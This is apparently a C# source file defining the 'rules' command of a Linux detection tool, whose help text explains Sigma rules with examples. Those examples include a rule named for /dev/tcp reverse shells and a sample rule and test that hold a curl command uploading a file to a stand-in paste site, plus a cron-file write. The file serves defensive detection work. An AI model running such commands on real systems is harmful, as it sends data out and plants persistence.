using System.CommandLine;
using Aurelian.Detection;
using Aurelian.Rules;

namespace Aurelian.Cli.Commands;

/// <summary><c>aurelian rules</c>: what is looked for, by whom, and whether it is found.</summary>
internal static class RulesCommand
{
    internal static Command Create()
    {
        Command command = new("rules", "Lists, tries, explains and checks detection rules. Needs no root.")
        {
            RulesListCommand.Create(),
            RulesTestCommand.Create(),
            RulesExplainCommand.Create(),
            RulesImportCommand.Create(),
        };
        return command.Teach("""
            Rules are Sigma (specification 2): public ones for Linux load unchanged from a folder of yours.

            Examples:
              aurelian rules list                          # built-in detectors and our own rules
              aurelian rules explain reverse-shell-dev-tcp # what it asks, and what to do when it fires
              aurelian rules import sigma/rules/linux      # which of a folder's rules are honoured, and why not
              aurelian run --rules sigma/rules/linux -- make test
              aurelian rules test my-rules/                # NAME.yml against NAME.test.yml beside it

            A rule of yours makes an episode suspect at most (medium), whatever its level. With --rules-contain, or in a
            policy '[run] rules_contain = true', high and critical contain. In a policy: [run] rules = ["my-rules"].

            A rule, NAME.yml:                              Its test, NAME.test.yml:
              title: Data Sent To A Paste Site               fires:
              logsource:                                       - what: curl sends a file
                category: process_creation                       events:
                product: linux                                     - exec: curl -T notes.txt https://paste.example
              detection:                                     quiet:
                selection:                                     - what: curl fetches
                  Image|endswith: /curl                          events:
                  CommandLine|contains|all: [' -T ', paste]        - exec: curl https://paste.example/raw/1
                condition: selection                               - {after: 2, dns: paste.example}
              level: medium                                        - {after: 2, connect: '203.0.113.7:443'}
              tags: [attack.exfiltration, attack.t1567]            - write: /etc/cron.d/x

            """);
    }

    /// <summary>Folders of the user's beside our own rules.</summary>
    internal static (SigmaRules? Rules, IReadOnlyList<string> Mistakes) Load(
        ParseResult parsed, Option<string[]> rules) => RuleSets.Load(parsed.GetValue(rules) ?? [], contain: false);
}
